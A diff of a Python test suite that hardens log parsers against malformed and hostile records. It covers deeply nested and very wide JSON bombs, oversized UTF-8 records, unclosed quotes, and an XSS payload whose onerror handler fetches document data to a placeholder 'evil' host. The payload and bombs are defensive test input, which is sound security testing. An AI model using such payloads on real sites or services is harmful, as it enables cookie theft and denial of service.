@@ -46,6 +46,10 @@ MEGABYTE_LINES = {
     "sshd": "Mar  5 14:02:11 h sshd[1]: Failed password for " + _mb("x from 1.2.3.4 port "),
     "access": '1.2.3.4 - - [05/Mar/2024:14:02:11 +0700] "' + _mb('\\"'),
     "audit": "type=SYSCALL msg=audit(1.0:1): " + _mb("a='b "),
+    "audit-word": "type=SYSCALL msg=audit(1.0:1): " + _mb("a"),
+    "pam-word": "Mar  5 14:02:11 h sshd[1]: pam_unix(sshd:auth): authentication failure; "
+    + _mb("a"),
+    "access-extra": '1.2.3.4 - - [05/Mar/2024:14:02:11 +0700] "GET / HTTP/1.1" 200 1 ' + _mb("a"),
     "fortigate": 'devname="x" logid="1" ' + _mb('k="\\\\'),
     "json-ish": "{" + _mb('"a":'),
 }
@@ -86,21 +90,23 @@ def test_invalid_utf8_never_crashes(parser: str, make_origin: OriginFactory) -> 
 
 @pytest.mark.parametrize("parser", ["json", "auto", "windows"])
 def test_json_bomb_deep_nesting(parser: str, dead_letter: DeadLetterOf) -> None:
-    for depth in (33, 5_000, 200_000):
-        letter = dead_letter("{" + '"a":{' * depth + "}" * (depth + 1), parser)
+    # Shaped as a Windows event too, so every parser gets past its own structural checks.
+    head = '{"EventID": 4624, "Channel": "Security", '
+    for depth in (33, 5_000, 150_000):
+        letter = dead_letter(head + '"a":{' * depth + "}" * (depth + 1), parser)
         assert letter.reason == "JSON nesting is deeper than 32 levels"
-    arrays = dead_letter('{"a":' + "[" * 100 + "]" * 100 + "}", parser)
+    arrays = dead_letter(head + '"a":' + "[" * 100 + "]" * 100 + "}", parser)
     assert arrays.reason == "JSON nesting is deeper than 32 levels"
 
 
 @pytest.mark.parametrize("parser", ["json", "auto", "windows"])
 def test_json_bomb_key_count(parser: str, dead_letter: DeadLetterOf) -> None:
-    wide = json.dumps({f"k{index}": index for index in range(50_000)})
+    wide = json.dumps({"EventID": 1, **{f"k{index}": index for index in range(50_000)}})
     started = time.perf_counter()
     letter = dead_letter(wide, parser)
     assert time.perf_counter() - started < SECONDS_PER_MEGABYTE_LINE
     assert letter.reason == "JSON record has more than 2000 keys"
-    nested = json.dumps({f"o{index}": {"a": 1, "b": 2} for index in range(1_001)})
+    nested = json.dumps({"EventID": 1, **{f"o{index}": {"a": 1, "b": 2} for index in range(1_000)}})
     assert dead_letter(nested, parser).reason == "JSON record has more than 2000 keys"
 
 
@@ -109,7 +115,15 @@ def test_json_over_one_mebibyte_is_rejected_before_decoding(
     parser: str, dead_letter: DeadLetterOf
 ) -> None:
     letter = dead_letter('{"a":"' + "x" * MEGABYTE + '"}', parser)
-    assert letter.reason == "JSON record is larger than 1048576 characters"
+    assert letter.reason == "JSON record is larger than 1 MiB"
+    # 400,000 characters, but 1.2 MB of UTF-8.
+    vietnamese = dead_letter('{"a":"' + "ễ" * 400_000 + '"}', parser)
+    assert vietnamese.reason == "JSON record is larger than 1 MiB"
+
+
+def test_json_just_under_one_mebibyte_is_accepted(event_fields: EventFields) -> None:
+    fields = event_fields('{"a":"' + "ễ" * 340_000 + '"}', "json")  # 1,020,008 bytes
+    assert len(fields["a"]) == 340_000
 
 
 def test_json_huge_integer_is_a_dead_letter_not_a_crash(dead_letter: DeadLetterOf) -> None:
@@ -118,8 +132,12 @@ def test_json_huge_integer_is_a_dead_letter_not_a_crash(dead_letter: DeadLetterO
 
 
 def test_unbalanced_quotes(event_fields: EventFields) -> None:
-    fortigate = event_fields('devname="FGT" logid="1" msg="chưa đóng ngoặc user="x', "fortigate")
-    assert fortigate["message"] == 'chưa đóng ngoặc user="x'
+    # An unclosed quote takes the rest of the record...
+    fortigate = event_fields('devname="FGT" logid="1" msg="chưa đóng ngoặc user=x', "fortigate")
+    assert fortigate["message"] == "chưa đóng ngoặc user=x"
+    # ... unless another quote follows, which then closes it (there is no telling).
+    closed = event_fields('devname="FGT" logid="1" msg="chưa đóng user="x', "fortigate")
+    assert closed["message"] == "chưa đóng user="
     cef = event_fields('CEF:0|V|P|1|1|N|3|msg="a b cs1="c', "cef")
     assert (cef["message"], cef["cef.extensions.cs1"]) == ('"a b', '"c')
     unclosed_header = event_fields("CEF:0|V|P\\|1|1|N|3|x=1", "auto")
@@ -136,7 +154,7 @@ PAYLOAD = "<script>alert('xss')</script><img src=x onerror=\"fetch('//evil/'+doc
         ("auth", f"Mar  5 14:02:11 web01 sshd[1]: Invalid user {PAYLOAD} from 10.0.0.1 port 2",
          "user.name"),
         ("json", json.dumps({"message": PAYLOAD}), "message"),
-        ("cef", f"CEF:0|V|P|1|1|N|3|msg={PAYLOAD}", "message"),
+        ("cef", f"CEF:0|V|P|1|1|N|3|msg={PAYLOAD.replace('=', chr(92) + '=')}", "message"),
         ("fortigate", f'devname="F" logid="1" msg="{PAYLOAD.replace(chr(34), chr(39))}"',
          "message"),
         ("nginx", f'1.2.3.4 - - [05/Mar/2024:14:02:11 +0700] "GET / HTTP/1.1" 200 1 "-" '
@@ -151,7 +169,9 @@ def test_html_and_script_payloads_are_kept_literally(
         PAYLOAD if parser in ("rfc3164", "auth", "json", "cef") else PAYLOAD.replace('"', "'")
     )
     assert fields[key] == expected
-    assert expected in dumps(fields)  # serialised as is: no HTML escaping, no \u escapes
+    serialised = dumps(fields)
+    assert json.loads(serialised)[key] == expected
+    assert "<script>alert('xss')</script><img" in serialised  # no HTML or \u escaping
 
 
 def test_control_characters_and_ansi_codes_survive(event_fields: EventFields) -> None:
